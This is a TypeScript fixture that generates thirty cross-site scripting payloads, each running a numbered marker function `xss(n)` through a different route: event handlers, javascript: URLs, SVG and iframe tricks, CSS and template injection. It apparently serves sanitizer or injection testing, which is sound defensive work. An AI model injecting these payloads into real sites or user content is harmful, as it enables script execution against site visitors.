/**
 * Thirty texts that run `xss(n)` in pages that take texts for markup, each by another way: elements, attributes,
 * handlers, addresses, styles, templates, broken tags. None has a slash, so that each may name a file.
 */

/** Named like nothing that a page has by itself. */
const CALL = 'xss';

const WAYS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}" `,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set attributeName=href to=javascript:${call}>`,
  (call) => `<math><mtext><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus onfocus=${call}>click`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<style>@import 'data:text,${call}'`,
  (call) => `<div style="animation:skeleton-pulse 1s" onanimationstart=${call}>`,
  (call) => `<base href="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<template><script>${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
];

export const SCRIPT_PAYLOADS: readonly string[] = WAYS.map((way, index) =>
  way(`${CALL}(${index})`),
);
